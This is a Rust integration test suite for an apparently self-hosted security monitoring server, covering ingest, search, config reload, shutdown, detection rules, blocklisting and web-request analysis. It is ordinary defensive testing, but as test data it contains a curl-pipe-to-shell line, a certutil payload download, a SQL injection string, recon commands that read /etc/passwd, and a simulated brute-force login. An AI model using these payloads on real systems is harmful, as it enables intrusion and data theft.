//! `watchpost serve` end to end: zero config, health, metrics, ingest and search, hot
//! reload, graceful shutdown.

mod common;

use common::{Server, eventually, get_json, http, run};
use serde_json::{Value, json};
use std::collections::HashSet;

#[tokio::test]
async fn zero_config_server_answers_health_status_and_metrics() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let http = http();

    let health: Value = get_json(&http, server.url("/healthz")).await;
    assert_eq!(health["status"], "ok");
    let ready = http.get(server.url("/readyz")).send().await.unwrap();
    assert_eq!(ready.status(), 200);

    let status: Value = get_json(&http, server.url("/api/v1/status")).await;
    assert_eq!(status["version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(status["store"]["backend"], "sqlite");
    assert_eq!(status["counts"]["events"], 0);

    let system: Value = get_json(&http, server.url("/api/v1/system/health")).await;
    assert_eq!(system["components"]["store"]["status"], "ok", "{system}");
    assert!(
        system["components"]["disk"]["free_bytes"].as_u64().unwrap() > 0,
        "{system}"
    );
    assert_eq!(system["components"]["pipeline"]["ingest_queue_events"], 0);

    let body = "{\"message\": \"one\"}\n{\"message\": \"two\"}\n";
    let resp = http
        .post(server.url("/api/v1/events"))
        .header("content-type", "application/x-ndjson")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let metrics = server.metrics_text().await;
    assert!(
        metrics.contains("watchpost_events_ingested_total 2"),
        "{metrics}"
    );
    assert!(
        metrics.contains("watchpost_build_info{version=\""),
        "{metrics}"
    );
    assert!(
        metrics.contains("watchpost_store_latency_seconds_bucket{le="),
        "{metrics}"
    );
    assert!(metrics.trim_end().ends_with("# EOF"));

    assert!(
        common::data_db(dir.path()).exists(),
        "data goes to ./watchpost-data by default"
    );
    let missing = http.get(server.url("/api/v1/nope")).send().await.unwrap();
    assert_eq!(missing.status(), 404);
    let err: Value = missing.json().await.unwrap();
    assert_eq!(err["error"]["code"], "not_found");
}

#[tokio::test]
async fn ingest_reports_bad_lines_and_search_filters_and_pages() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let http = http();

    let mut lines: Vec<String> = (0..30)
        .map(|i| {
            json!({
                "@timestamp": format!("2026-11-22T10:00:{:02}Z", i),
                "event": {"category": ["process"], "action": "exec", "module": "agent"},
                "host": {"name": if i % 3 == 0 { "db-1" } else { "web-1" }},
                "source": {"ip": "198.51.100.7"},
                "process": {"command_line": format!("run job {i}")}
            })
            .to_string()
        })
        .collect();
    lines.insert(5, "{\"@timestamp\": \"not a time\"}".into());
    lines.insert(9, "this is not json".into());
    let resp = http
        .post(server.url("/api/v1/events"))
        .header("content-type", "application/x-ndjson")
        .body(lines.join("\n"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let report: Value = resp.json().await.unwrap();
    assert_eq!(report["accepted"], 30);
    assert_eq!(report["rejected"][0]["index"], 5);
    assert_eq!(report["rejected"][0]["line"], 6);
    assert!(
        report["rejected"][0]["error"]
            .as_str()
            .unwrap()
            .contains("invalid timestamp")
    );
    assert_eq!(report["rejected"][1]["line"], 10);

    let resp = http
        .post(server.url("/api/v1/events"))
        .json(&json!([{"message": "array form"}, 42]))
        .send()
        .await
        .unwrap();
    let report: Value = resp.json().await.unwrap();
    assert_eq!(
        (
            report["accepted"].as_u64(),
            report["rejected"][0]["index"].as_u64()
        ),
        (Some(1), Some(1))
    );

    let get = |q: String| {
        let http = http.clone();
        let url = server.url(&format!("/api/v1/events?{q}"));
        async move { http.get(url).send().await.unwrap() }
    };
    let page: Value = get("host=db-1".into()).await.json().await.unwrap();
    assert_eq!(page["items"].as_array().unwrap().len(), 10);
    let page: Value = get("from=2026-11-22T10:00:10Z&to=2026-11-22T10:00:20Z&q=JOB%201".into())
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(page["items"].as_array().unwrap().len(), 10, "{page}");

    let mut seen = HashSet::new();
    let mut cursor: Option<String> = None;
    loop {
        let q = match &cursor {
            Some(c) => format!("source=agent&limit=7&cursor={c}"),
            None => "source=agent&limit=7".into(),
        };
        let page: Value = get(q).await.json().await.unwrap();
        for item in page["items"].as_array().unwrap() {
            assert!(seen.insert(item["event"]["id"].as_str().unwrap().to_string()));
        }
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => break,
        }
    }
    assert_eq!(seen.len(), 30);

    // Oldest first on request; the default is newest first.
    let times = |page: Value| -> Vec<String> {
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["@timestamp"].as_str().unwrap().to_string())
            .collect()
    };
    let oldest_first = times(
        get("host=db-1&sort=timestamp".into())
            .await
            .json()
            .await
            .unwrap(),
    );
    let newest_first = times(get("host=db-1".into()).await.json().await.unwrap());
    assert!(
        oldest_first.windows(2).all(|w| w[0] <= w[1]),
        "{oldest_first:?}"
    );
    let mut reversed = newest_first.clone();
    reversed.reverse();
    assert_eq!(oldest_first, reversed);

    for (query, parameter) in [
        ("from=yesterday", "from"),
        ("limit=0", "limit"),
        ("cursor=zzz", "cursor"),
        ("hots=db-1", "hots"),
        ("sort=severity", "sort"),
    ] {
        let resp = get(query.into()).await;
        assert_eq!(resp.status(), 400, "{query}");
        let err: Value = resp.json().await.unwrap();
        assert_eq!(err["error"]["details"]["parameter"], parameter, "{err}");
    }
    let resp = http
        .post(server.url("/api/v1/events"))
        .header("content-type", "application/x-ndjson")
        .body("[1, 2")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
}

#[tokio::test]
async fn config_edits_reload_live_and_a_broken_file_keeps_the_old_config() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(&config, "[api]\nmax_batch_events = 5\n").unwrap();
    let server = Server::start_with(dir.path(), &["--config", config.to_str().unwrap()]);
    let http = http();
    let post = |n: usize| {
        let http = http.clone();
        let url = server.url("/api/v1/events");
        async move {
            let body = vec!["{\"message\": \"m\"}"; n].join("\n");
            http.post(url)
                .header("content-type", "application/x-ndjson")
                .body(body)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    assert_eq!(post(3).await, 200);

    std::fs::write(&config, "[api]\nmax_batch_events = 2\n").unwrap();
    eventually("the new limit is in force", || async {
        post(3).await == 413
    })
    .await;
    assert_eq!(post(2).await, 200);

    std::fs::write(
        &config,
        "[api]\nmax_batch_events = 2\n\n[storage]\nretention_days = 0\n",
    )
    .unwrap();
    let health_url = server.url("/api/v1/system/health");
    eventually("the broken file is reported", || {
        let (http, url) = (http.clone(), health_url.clone());
        async move {
            let health: Value = http.get(url).send().await.unwrap().json().await.unwrap();
            health["components"]["config"]["status"] == "degraded"
        }
    })
    .await;
    let health: Value = get_json(&http, server.url("/api/v1/system/health")).await;
    let error = health["components"]["config"]["last_error"]
        .as_str()
        .unwrap();
    assert!(
        error.contains("watchpost.toml:line 5: storage.retention_days"),
        "{error}"
    );
    assert_eq!(health["components"]["config"]["generation"], 2);
    assert_eq!(
        post(3).await,
        413,
        "the previous configuration is still in force"
    );
    assert_eq!(post(2).await, 200);
    assert!(
        server.log_text().contains("configuration change rejected"),
        "{}",
        server.log_text()
    );
}

#[tokio::test]
async fn sigterm_during_ingest_loses_no_acknowledged_event() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = Server::start(dir.path());
    let url = server.url("/api/v1/events");
    let mut clients = tokio::task::JoinSet::new();
    for client in 0..4 {
        let url = url.clone();
        clients.spawn(async move {
            let http = http();
            let mut acknowledged = Vec::new();
            for batch in 0..10_000 {
                let ids: Vec<String> = (0..50).map(|_| uuid::Uuid::now_v7().to_string()).collect();
                let body: Vec<Value> = ids
                    .iter()
                    .map(|id| json!({"event": {"id": id}, "message": format!("client {client} batch {batch}")}))
                    .collect();
                match http.post(&url).json(&body).send().await {
                    Ok(resp) if resp.status() == 200 => acknowledged.extend(ids),
                    _ => break,
                }
            }
            acknowledged
        });
    }
    // Let ingest run, then stop the server in the middle of it.
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    let status = tokio::task::spawn_blocking(move || {
        let status = server.terminate();
        (status, server.log_text())
    })
    .await
    .unwrap();
    assert!(
        status.0.success(),
        "clean exit after SIGTERM: {:?}\n{}",
        status.0,
        status.1
    );
    assert!(
        status.1.contains("shutting down: writing queued events"),
        "{}",
        status.1
    );
    let mut acknowledged = Vec::new();
    while let Some(ids) = clients.join_next().await {
        acknowledged.extend(ids.unwrap());
    }
    assert!(
        acknowledged.len() >= 500,
        "ingest was running when the signal came: {}",
        acknowledged.len()
    );

    let store = watchpost_store::open(&format!(
        "sqlite://{}",
        common::data_db(dir.path()).display()
    ))
    .await
    .unwrap();
    let mut stored = HashSet::new();
    let mut query = watchpost_store::EventQuery {
        limit: Some(1000),
        ..Default::default()
    };
    loop {
        let page = store.query_events(&query).await.unwrap();
        stored.extend(page.items.iter().map(|e| e.id().to_string()));
        match page.next_cursor {
            Some(c) => query.cursor = Some(watchpost_store::Cursor::decode(&c).unwrap()),
            None => break,
        }
    }
    let lost: Vec<&String> = acknowledged
        .iter()
        .filter(|id| !stored.contains(*id))
        .collect();
    assert!(
        lost.is_empty(),
        "{} of {} acknowledged events lost",
        lost.len(),
        acknowledged.len()
    );
}

/// The status line a raw HTTP/1.1 request gets.
fn status_line(server: &Server, request: &[u8]) -> String {
    use std::io::{Read, Write};
    let address = server.base.trim_start_matches("http://");
    let mut tcp = std::net::TcpStream::connect(address).unwrap();
    tcp.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    tcp.write_all(request).unwrap();
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    while !answer.windows(2).any(|w| w == b"\r\n") {
        match tcp.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => answer.extend_from_slice(&buf[..n]),
        }
    }
    String::from_utf8_lossy(&answer)
        .lines()
        .next()
        .unwrap_or("")
        .to_string()
}

#[test]
fn request_heads_are_bounded_over_plain_http() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let request = |header_bytes: usize| {
        format!(
            "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Padding: {}\r\nConnection: close\r\n\r\n",
            "a".repeat(header_bytes)
        )
    };
    assert_eq!(
        status_line(&server, request(16 * 1024).as_bytes()),
        "HTTP/1.1 200 OK"
    );
    for kib in [65, 100, 300] {
        assert_eq!(
            status_line(&server, request(kib * 1024).as_bytes()),
            "HTTP/1.1 431 Request Header Fields Too Large",
            "a head of {kib} KiB, over 64 KiB, is refused"
        );
    }
}

#[test]
fn refuses_to_listen_beyond_loopback_without_authentication() {
    let dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(common::BIN)
        .current_dir(dir.path())
        .args(["serve", "--port", "0"])
        .env("WATCHPOST_API__HOST", "0.0.0.0")
        .env("WATCHPOST_API__ENABLE_AUTHENTICATION", "false")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("api.enable_authentication"), "{stderr}");
    assert!(
        stderr.contains("only when the server listens on loopback"),
        "{stderr}"
    );
}

/// A server whose `[detection]` reads the rule folder `rules` (and the built-in rules
/// when `builtin`).
fn start_with_rules(dir: &std::path::Path, rules: &std::path::Path, builtin: bool) -> Server {
    let config = dir.join("watchpost.toml");
    std::fs::write(
        &config,
        format!(
            "[detection]\nbuiltin_rules = {builtin}\nrules_dirs = [{:?}]\n",
            rules.display().to_string()
        ),
    )
    .unwrap();
    Server::start_with(dir, &["--config", config.to_str().unwrap()])
}

fn linux_rule(id: &str, needle: &str) -> String {
    format!(
        "title: Test rule {needle}\nid: {id}\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n\
         logsource: {{product: linux, category: process_creation}}\n\
         detection:\n  selection:\n    CommandLine|contains: '{needle}'\n  condition: selection\n"
    )
}

#[tokio::test]
async fn live_detection_runs_builtin_and_folder_rules_and_reloads_them() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("a.yml"),
        linux_rule("aaaaaaaa-0000-4000-8000-000000000001", "evil-a"),
    )
    .unwrap();
    let server = start_with_rules(dir.path(), &rules, true);
    let http = http();
    let post = |body: Value| {
        let (http, url) = (http.clone(), server.url("/api/v1/events"));
        async move {
            assert_eq!(
                http.post(url).json(&body).send().await.unwrap().status(),
                200
            )
        }
    };
    let detections = |query: &'static str| {
        let (http, url) = (
            http.clone(),
            server.url(&format!("/api/v1/detections?{query}")),
        );
        async move {
            let page: Value = http.get(url).send().await.unwrap().json().await.unwrap();
            page["items"].as_array().unwrap().clone()
        }
    };
    let health = || {
        let (http, url) = (http.clone(), server.url("/api/v1/system/health"));
        async move {
            let h: Value = http.get(url).send().await.unwrap().json().await.unwrap();
            h["components"]["detection"].clone()
        }
    };
    let builtin = watchpost_sigma::BUILTIN_RULES.len() as u64;
    assert_eq!(health().await["rules"]["loaded"], builtin + 1);

    post(json!([
        {"host": {"name": "web-1"}, "process": {"pid": 4242, "command_line": "sh -c 'curl x | evil-a'"}},
        {"host": {"name": "ws-1"}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
            "event_data": {"Image": "C:\\Windows\\System32\\certutil.exe",
                           "CommandLine": "certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}}},
        {"host": {"name": "web-1"}, "process": {"command_line": "ls -la"}}
    ]))
    .await;
    eventually("both detections stored", || async {
        detections("").await.len() == 2
    })
    .await;
    let found = detections("rule_id=aaaaaaaa-0000-4000-8000-000000000001").await;
    assert_eq!(found.len(), 1);
    assert_eq!(found[0]["host"], "web-1");
    assert_eq!(found[0]["severity"], "high");
    assert_eq!(found[0]["attack"]["techniques"][0], "T1059.004");
    assert_eq!(found[0]["entity"]["type"], "process");
    assert_eq!(
        found[0]["evidence"]["fields"]["CommandLine"],
        "sh -c 'curl x | evil-a'"
    );
    let certutil = detections("host=ws-1").await;
    assert_eq!(
        certutil[0]["rule_title"], "Certutil Download or Decode",
        "{certutil:?}"
    );

    // The same detections counted for analysts and the dashboard.
    let stats = get_json(&http, server.url("/api/v1/statistics?bucket=1h")).await;
    assert_eq!(stats["detections"], 2, "{stats}");
    assert_eq!(stats["events"], 3);
    let hosts: HashSet<&str> = stats["by_host"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["key"].as_str().unwrap())
        .collect();
    assert_eq!(hosts, HashSet::from(["web-1", "ws-1"]));
    assert_eq!(stats["by_tactic"]["TA0002"], 1, "{stats}");
    let summary = get_json(&http, server.url("/api/v1/dashboard/summary?window=1h")).await;
    assert_eq!(
        summary["top_rules"].as_array().unwrap().len(),
        2,
        "{summary}"
    );
    assert!(
        summary["attack_heatmap"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["tactic"] == "TA0002" && c["technique"] == "T1059.004" && c["count"] == 1),
        "{summary}"
    );
    let total: i64 = summary["over_time"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|b| b["by_severity"].as_object().unwrap().values())
        .map(|n| n.as_i64().unwrap())
        .sum();
    assert_eq!(total, 2);
    let hosts = get_json(&http, server.url("/api/v1/hosts")).await;
    let names: Vec<&str> = hosts["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["host"].as_str().unwrap())
        .collect();
    assert!(
        names.contains(&"web-1") && names.contains(&"ws-1"),
        "{hosts}"
    );
    let refused = get_json(&http, server.url("/api/v1/dashboard/summary?window=10s")).await;
    assert_eq!(refused["error"]["details"]["parameter"], "window");

    // Rules are listed, tested against pasted events, and turned off and on.
    let listed = get_json(&http, server.url("/api/v1/rules?q=test%20rule")).await;
    assert_eq!(
        listed["items"][0]["id"], "aaaaaaaa-0000-4000-8000-000000000001",
        "{listed}"
    );
    assert_eq!(listed["items"][0]["enabled"], true);
    assert_eq!(listed["items"][0]["tactics"], json!(["TA0002"]));
    let tested: Value = http
        .post(server.url("/api/v1/rules/test"))
        .json(
            &json!({"rule": linux_rule("aaaaaaaa-0000-4000-8000-00000000000f", "pasted"),
                      "events": [{"process": {"command_line": "run pasted thing"}},
                                 {"process": {"command_line": "ls"}}]}),
        )
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let matched: Vec<bool> = tested["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["matched"].as_bool().unwrap())
        .collect();
    assert_eq!(matched, [true, false], "{tested}");
    let broken: Value = http
        .post(server.url("/api/v1/rules/test"))
        .json(&json!({"rule": "title: x\ndetection: {condition: nope}\n", "events": [{}]}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(broken["error"]["code"], "invalid_rule", "{broken}");
    let off = http
        .put(server.url("/api/v1/rules/aaaaaaaa-0000-4000-8000-000000000001"))
        .json(&json!({"enabled": false}))
        .send()
        .await
        .unwrap();
    assert_eq!(off.status(), 200);
    post(json!([{"host": {"name": "web-8"}, "process": {"command_line": "evil-a again"}}])).await;
    let disabled = get_json(&http, server.url("/api/v1/rules?enabled=false")).await;
    assert_eq!(disabled["items"].as_array().unwrap().len(), 1);
    http.put(server.url("/api/v1/rules/aaaaaaaa-0000-4000-8000-000000000001"))
        .json(&json!({"enabled": true}))
        .send()
        .await
        .unwrap();
    post(json!([{"host": {"name": "web-9"}, "process": {"command_line": "evil-a once more"}}]))
        .await;
    eventually("the rule on again detects", || async {
        !detections("host=web-9").await.is_empty()
    })
    .await;
    assert!(
        detections("host=web-8").await.is_empty(),
        "nothing was raised while the rule was off"
    );

    // A new rule file takes effect without a restart.
    std::fs::write(
        rules.join("b.yml"),
        linux_rule("bbbbbbbb-0000-4000-8000-000000000002", "evil-b"),
    )
    .unwrap();
    eventually("rule b loaded", || async {
        health().await["rules"]["loaded"] == builtin + 2
    })
    .await;
    post(json!({"host": {"name": "web-2"}, "process": {"command_line": "evil-b --now"}})).await;
    eventually("rule b fires", || async {
        detections("rule_id=bbbbbbbb-0000-4000-8000-000000000002")
            .await
            .len()
            == 1
    })
    .await;

    // A broken rule is reported; the others keep running.
    std::fs::write(rules.join("broken.yml"), "title: broken\nid: c\nlogsource: {product: linux}\ndetection:\n  sel:\n    CommandLine|nope: x\n  condition: sel\n").unwrap();
    eventually("the broken rule is reported", || async {
        health().await["status"] == "degraded"
    })
    .await;
    let status = health().await;
    assert_eq!(status["rules"]["loaded"], builtin + 2);
    let failure = status["rules"]["failures"][0].as_str().unwrap().to_string();
    assert!(
        failure.contains("broken.yml:6: detection.sel.CommandLine|nope: unknown modifier"),
        "{failure}"
    );
    post(json!({"host": {"name": "web-3"}, "process": {"command_line": "evil-a again"}})).await;
    eventually("rule a still fires", || async {
        detections("rule_id=aaaaaaaa-0000-4000-8000-000000000001")
            .await
            .len()
            == 3
    })
    .await;
    let resp = http
        .get(server.url("/api/v1/detections?min_severity=urgent"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    let metrics = server.metrics_text().await;
    assert!(
        metrics.contains("watchpost_detections_total 5"),
        "{metrics}"
    );
}

#[tokio::test]
async fn the_retention_job_deletes_aged_out_events_in_a_running_server() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(&config, "[storage]\nretention_days = 30\n").unwrap();
    let args = ["--config", config.to_str().unwrap()];
    let recent = chrono::Utc::now().to_rfc3339();
    let mut server = Server::start_with(dir.path(), &args);
    let http = http();
    let resp = http
        .post(server.url("/api/v1/events"))
        .json(&json!([
            {"@timestamp": "2020-01-01T00:00:00Z", "message": "old"},
            {"@timestamp": recent, "message": "recent"}
        ]))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let status = tokio::task::spawn_blocking(move || server.terminate())
        .await
        .unwrap();
    assert!(status.success());

    // The job runs when the server starts, then every storage.retention_interval_seconds.
    let server = Server::start_with(dir.path(), &args);
    let url = server.url("/api/v1/events");
    eventually("the old event is purged", || {
        let (http, url) = (http.clone(), url.clone());
        async move {
            let page: Value = http.get(url).send().await.unwrap().json().await.unwrap();
            let messages: Vec<&str> = page["items"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|e| e["message"].as_str())
                .collect();
            assert!(
                messages.contains(&"recent"),
                "recent events are kept: {messages:?}"
            );
            messages == ["recent"]
        }
    })
    .await;
    eventually("the run is logged", || {
        let logged = server.log_text().contains("retention run finished");
        async move { logged }
    })
    .await;
}

#[tokio::test]
async fn correlation_rules_run_on_ingested_events() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("recon.yml"),
        r#"
title: Enumeration burst on one host
id: dddddddd-0000-4000-8000-00000000000c
level: high
tags: [attack.discovery]
correlation:
  type: event_count
  rules: [recon_command]
  group-by: [Computer]
  timespan: 10m
  condition: {gte: 3}
---
title: Reconnaissance command
id: dddddddd-0000-4000-8000-000000000001
name: recon_command
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|startswith: ['whoami', 'id ', 'uname -a', 'cat /etc/passwd']
  condition: selection
"#,
    )
    .unwrap();
    let server = start_with_rules(dir.path(), &rules, false);
    let http = http();
    let event = |host: &str, minute: u32, command: &str| {
        json!({"@timestamp": format!("2026-11-22T10:{minute:02}:00Z"), "host": {"name": host},
               "process": {"command_line": command}})
    };
    // db-1 runs three recon commands within ten minutes (in two batches); web-1 only two.
    for batch in [
        json!([
            event("db-1", 0, "whoami"),
            event("web-1", 1, "whoami"),
            event("db-1", 2, "id -u")
        ]),
        json!([
            event("web-1", 3, "uname -a"),
            event("db-1", 4, "cat /etc/passwd")
        ]),
    ] {
        let resp = http
            .post(server.url("/api/v1/events"))
            .json(&batch)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
    }
    let detections = || {
        let (http, url) = (http.clone(), server.url("/api/v1/detections"));
        async move {
            let page: Value = http.get(url).send().await.unwrap().json().await.unwrap();
            page["items"].as_array().unwrap().clone()
        }
    };
    eventually("the correlation fires", || async {
        !detections().await.is_empty()
    })
    .await;
    let found = detections().await;
    // The base rule only feeds the correlation, so the correlation is all that is stored.
    assert_eq!(found.len(), 1, "{found:?}");
    let d = &found[0];
    assert_eq!(d["rule_id"], "dddddddd-0000-4000-8000-00000000000c");
    assert_eq!(d["detector"], "sigma-correlation");
    assert_eq!(d["host"], "db-1");
    assert_eq!(d["timestamp"], "2026-11-22T10:04:00Z");
    assert_eq!(d["event_ids"].as_array().unwrap().len(), 3);
    assert_eq!(d["evidence"]["correlation"]["group"]["Computer"], "db-1");
    assert_eq!(d["evidence"]["correlation"]["count"], 3);
    let health: Value = get_json(&http, server.url("/api/v1/system/health")).await;
    assert_eq!(
        health["components"]["detection"]["rules"]["correlations"],
        1
    );
}

#[tokio::test]
async fn a_block_made_over_the_api_holds_for_analyze_until_lifted() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let http = http();
    let made = http
        .post(server.url("/api/v1/blocklist"))
        .json(&json!({"ip": "203.0.113.66", "minutes": 10, "reason": "credential stuffing"}))
        .send()
        .await
        .unwrap();
    assert_eq!(made.status(), 201);
    let listed = get_json(&http, server.url("/api/v1/blocklist")).await;
    assert_eq!(listed["items"][0]["ip"], "203.0.113.66");
    assert_eq!(listed["items"][0]["reason"], "credential stuffing");
    assert!(listed["items"][0]["seconds_left"].as_u64().unwrap() > 590);
    let verdict: Value = http
        .post(server.url("/api/v1/ids/analyze"))
        .json(&json!({"method": "GET", "path": "/", "client_ip": "203.0.113.66"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(verdict["decision"]["action"], "block", "{verdict}");
    let lifted = http
        .delete(server.url("/api/v1/blocklist/203.0.113.66"))
        .send()
        .await
        .unwrap();
    assert_eq!(lifted.status(), 204);
    assert_eq!(
        get_json(&http, server.url("/api/v1/blocklist")).await["items"],
        json!([])
    );
    let bad: Value = http
        .post(server.url("/api/v1/blocklist"))
        .json(&json!({"ip": "not-an-ip", "minutes": 10, "reason": "x"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(bad["error"]["details"]["parameter"], "ip");
}

#[tokio::test]
async fn the_analyze_endpoint_inspects_request_profiles_and_stores_findings() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let http = http();
    let analyze = |body: Value| {
        let (http, url) = (http.clone(), server.url("/api/v1/ids/analyze"));
        async move {
            let resp = http.post(url).json(&body).send().await.unwrap();
            let status = resp.status();
            (status, resp.json::<Value>().await.unwrap())
        }
    };
    let (status, verdict) = analyze(json!({
        "method": "GET", "path": "/products", "query": "id=1%27%20union%20select%20password%20from%20users--",
        "headers": {"Host": "shop.example", "User-Agent": "curl/8"}, "client_ip": "203.0.113.9"
    }))
    .await;
    assert_eq!(status, 200, "{verdict}");
    assert_eq!(verdict["attack"], true);
    assert_eq!(
        verdict["decision"]["action"], "pass",
        "detect mode by default"
    );
    assert_eq!(verdict["findings"][0]["rule"], "sqli.union_select");
    assert_eq!(verdict["findings"][0]["name"], "id");
    let (_, clean) = analyze(json!({"method": "GET", "path": "/products", "query": "id=42"})).await;
    assert_eq!(clean["attack"], false);
    assert_eq!(clean["findings"], json!([]));
    let (_, decoy) =
        analyze(json!({"method": "GET", "path": "/.git/config", "client_ip": "203.0.113.9"})).await;
    assert_eq!(decoy["decision"]["action"], "decoy");
    assert!(
        decoy["decision"]["body"]
            .as_str()
            .unwrap()
            .contains("[remote")
    );

    let page: Value = get_json(
        &http,
        server.url("/api/v1/detections?source_ip=203.0.113.9"),
    )
    .await;
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 2, "{page}");
    let detectors: Vec<&str> = items
        .iter()
        .map(|d| d["detector"].as_str().unwrap())
        .collect();
    assert!(
        detectors.contains(&"web") && detectors.contains(&"web-honeypot"),
        "{detectors:?}"
    );

    // Reported after the fact with the response status: ten failed logins from one
    // address are brute force.
    for _ in 0..10 {
        analyze(json!({"method": "POST", "path": "/login", "body": "username=admin&password=x",
                       "headers": {"Content-Type": "application/x-www-form-urlencoded", "Origin": "http://shop.example", "Host": "shop.example"},
                       "client_ip": "198.51.100.77", "response_status": 401}))
        .await;
    }
    let page: Value = get_json(
        &http,
        server.url("/api/v1/detections?detector=web-behaviour"),
    )
    .await;
    let rules: Vec<&str> = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["rule_id"].as_str().unwrap())
        .collect();
    assert!(
        rules.contains(&"bruteforce.ip") && rules.contains(&"bruteforce.user"),
        "{rules:?}"
    );

    let (status, error) = analyze(json!({"method": 5})).await;
    assert_eq!(status, 400);
    assert_eq!(error["error"]["code"], "invalid_body");
    let (status, error) = analyze(json!({"path": "/", "client_ip": "not-an-ip"})).await;
    assert_eq!(status, 400);
    assert!(
        error["error"]["message"]
            .as_str()
            .unwrap()
            .contains("client_ip"),
        "{error}"
    );
}

#[tokio::test]
async fn the_web_section_sets_the_analyze_endpoints_policy() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(
        &config,
        r#"
[web]
action = "block"
block_status = 406
decoys = ["/old-admin"]

[[web.routes]]
prefix = "/search"
exclusions = [{ parameter = "q", categories = ["sqli"] }]

[[web.routes]]
prefix = "/public"
action = "detect"
"#,
    )
    .unwrap();
    let server = Server::start_with(dir.path(), &["--config", config.to_str().unwrap()]);
    let http = http();
    let analyze = |body: Value| {
        let (http, url) = (http.clone(), server.url("/api/v1/ids/analyze"));
        async move {
            http.post(url)
                .json(&body)
                .send()
                .await
                .unwrap()
                .json::<Value>()
                .await
                .unwrap()
        }
    };
    let sqli = "1%27%20union%20select%20password%20from%20users--";
    let blocked =
        analyze(json!({"method": "GET", "path": "/products", "query": format!("id={sqli}")})).await;
    assert_eq!(blocked["decision"]["action"], "block", "{blocked}");
    assert_eq!(blocked["decision"]["status"], 406);
    // SQL words are allowed in `q` on /search, and only there.
    let search =
        analyze(json!({"method": "GET", "path": "/search", "query": format!("q={sqli}")})).await;
    assert_eq!(search["attack"], false, "{search}");
    let other =
        analyze(json!({"method": "GET", "path": "/search", "query": format!("id={sqli}")})).await;
    assert_eq!(other["decision"]["action"], "block");
    let public =
        analyze(json!({"method": "GET", "path": "/public/x", "query": format!("id={sqli}")})).await;
    assert_eq!(public["decision"]["action"], "pass");
    // The decoys are the configured ones.
    let decoy = analyze(json!({"method": "GET", "path": "/old-admin"})).await;
    assert_eq!(decoy["decision"]["action"], "decoy");
    let not_decoy = analyze(json!({"method": "GET", "path": "/.git/config"})).await;
    assert_ne!(not_decoy["decision"]["action"], "decoy");
}

#[test]
fn a_wrong_web_section_is_refused_with_the_key() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(
        &config,
        "[web]\nparanoia = 7\n[[web.routes]]\nprefix = \"/a\"\nexclusions = [{ parameter = \"q\", categories = [\"sql\"] }]\n",
    )
    .unwrap();
    let out = run(
        dir.path(),
        &["--config", config.to_str().unwrap(), "config", "check"],
    );
    assert!(!out.status.success());
    let text =
        String::from_utf8_lossy(&out.stderr).to_string() + &String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("web.paranoia"), "{text}");
    assert!(
        text.contains("web.routes[0].exclusions[0].categories"),
        "{text}"
    );
}

#[tokio::test]
async fn the_server_watches_its_own_host() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    // Memory in use is always above 1 %: one threshold detection, held while it stays.
    std::fs::write(
        &config,
        "[monitoring]\nmonitor_interval = 1\nmemory_threshold = 1.0\n",
    )
    .unwrap();
